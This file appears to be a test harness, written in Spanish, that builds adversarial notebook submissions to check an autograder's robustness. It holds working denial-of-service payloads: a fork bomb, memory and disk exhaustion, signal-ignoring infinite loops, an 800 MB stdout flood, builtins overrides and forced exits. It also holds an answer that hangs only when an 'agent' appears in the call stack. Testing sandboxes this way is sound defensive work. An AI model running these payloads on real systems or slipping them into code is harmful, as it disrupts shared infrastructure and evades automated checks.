def _empty(notebook, context, name):
    return ""


@attack("other_lab_solution", "metadatos", "blanco")
def _other_lab(notebook, context, name):
    return tampering.solved(labs.get("02_normalizacion"))


# --- recursos -----------------------------------------------------------------------------
# fmt: off

code_attack("loop_sigint_ignored", "recursos", "solucion", '''
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
''', where=MIDDLE, min_points=KEPT)

code_attack("loop_catches_interrupt", "recursos", "solucion", '''
while True:
    try:
        while True:
            time.sleep(0.1)
    except BaseException:
        pass
''', where=MIDDLE, min_points=KEPT)


@attack("loop_when_tested", "recursos", "solucion", min_points=KEPT)
def _loop_tested(notebook, context, name):
    tampering.append_to_answer(notebook, "ej3_relleno", (
        "import inspect\n"
        "_bueno = padding_mask\n"
        "def padding_mask(tokens, pad_idx):\n"
        "    if any('agent' in f.filename for f in inspect.stack()):\n"
        "        while True:\n"
        "            try:\n"
        "                pass\n"
        "            except BaseException:\n"
        "                pass\n"
        "    return _bueno(tokens, pad_idx)\n"
    ))
    return notebook


code_attack("memory_bomb", "recursos", "solucion", '''
trozos = []
intenta(lambda: bytearray(10**11))
def llena():
    while True:
        trozos.append(bytearray(2**28))
intenta(llena)
trozos.clear()
intenta(torch.empty, 10**11)
''', where=MIDDLE, min_points=KEPT)

code_attack("fork_bomb", "recursos", "solucion", '''
bomba = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.05)\\n"
intenta(subprocess.Popen, [sys.executable, "-c", bomba, MARCA], start_new_session=True)
time.sleep(3)
import threading
hilos = []
for _ in range(2000):
    try:
        h = threading.Thread(target=time.sleep, args=(20,), daemon=True)
        h.start()
        hilos.append(h)
    except RuntimeError:
        break
print(len(hilos), "hilos")
''', where=MIDDLE, min_points=KEPT, spawns=True)

code_attack("stdout_800mb", "recursos", "solucion", '''
bloque = "x" * (2**20 - 1) + "\\n"
for _ in range(800):
    sys.stdout.write(bloque)
''', where=MIDDLE, min_points=KEPT)

code_attack("disk_fill", "recursos", "solucion", '''
def llena(ruta):
    with open(ruta, "wb") as f:
        for _ in range(4096):
            f.write(bytes(2**20))
for ruta in ["/tmp/trabajo/relleno-" + MARCA, "/tmp/otro-" + MARCA, "/dev/shm/relleno-" + MARCA]:
    intenta(llena, ruta)
from IPython.display import display
import base64
imagen = base64.b64encode(os.urandom(2**20)).decode()
for _ in range(40):
    display({"image/png": imagen, "text/plain": MARCA}, raw=True)
''', where=MIDDLE, min_points=KEPT)

code_attack("os_exit", "recursos", "solucion", "os._exit(0)\n", where=MIDDLE, min_points=KEPT)

code_attack("builtins_type", "recursos", "solucion", '''
import builtins
builtins.type = lambda *a, **k: None
builtins.isinstance = lambda *a: False
''', where=MIDDLE, min_points=KEPT)

code_attack("deep_recursion", "recursos", "solucion", '''
sys.setrecursionlimit(10**7)
def baja(n):
    return list(map(baja, [n + 1]))
baja(0)
''', where=MIDDLE, min_points=KEPT)

answers_attack("huge_reply", "recursos", '''
def attention_scores(query, key):
    return torch.zeros(70_000_000)
def padding_mask(tokens, pad_idx):
    d = {}
    for _ in range(100_000):
        d = {"a": d}
    return d
def scaled_dot_product_attention(query, key, value, mask=None):
    os._exit(3)
''')
# fmt: on


def build(attack_: Attack, context: Context) -> str:
    """El texto del cuaderno que entrega ``attack_``."""
    notebook = base_notebook(attack_.base)
    built = attack_.build(notebook, context, attack_.name)
    return built if isinstance(built, str) else nbformat.writes(built)
